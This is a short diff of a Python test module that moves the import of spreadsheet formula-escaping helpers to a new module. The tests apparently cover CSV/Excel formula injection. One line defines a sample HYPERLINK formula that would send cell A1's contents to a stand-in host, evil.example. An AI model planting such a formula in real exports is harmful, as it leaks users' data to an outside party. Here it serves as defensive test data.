@@ -13,8 +13,8 @@ import pytest
 from openpyxl import load_workbook
 
 from circles.models import CircleMembership
-from circles.reports import FORMULA_START, csv_cell
 from courses.factories import TopicPageFactory
+from ecirkel.spreadsheets import FORMULA_START, csv_cell
 from users.factories import UserFactory
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
